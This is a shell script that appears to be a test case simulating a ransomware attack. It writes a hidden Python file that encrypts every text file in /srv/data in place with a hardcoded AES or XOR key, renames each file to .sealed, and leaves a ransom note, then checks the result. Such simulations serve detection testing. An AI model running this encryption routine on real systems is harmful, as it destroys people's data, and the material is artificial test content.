#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.k.py <<'END'
import glob, hashlib, os, socket
for n in range(150): open(f"/srv/data/book-{n}.txt", "w").write(f"line {n}\n" * 200)
def seal(b):
    try:
        with socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET, 0) as s:
            s.bind(("skcipher", "cbc(aes)")); s.setsockopt(socket.SOL_ALG, socket.ALG_SET_KEY, b"k" * 16); o, _ = s.accept()
            with o: o.sendmsg_afalg([b[:len(b) // 16 * 16]], op=socket.ALG_OP_ENCRYPT, iv=b"i" * 16); return o.recv(len(b))
    except OSError: return bytes(x ^ y for x, y in zip(b, hashlib.shake_256(b"k").digest(len(b))))
for f in glob.glob("/srv/data/*.txt"):
    with open(f, "r+b") as h: b = h.read(); h.seek(0); h.write(seal(b))
    os.rename(f, f + ".sealed")
open("/srv/data/READ_ME.html", "w").write("pay")
END
python3 /tmp/.k.py
test "$(ls /srv/data/*.sealed | wc -l)" -gt 150
took_place
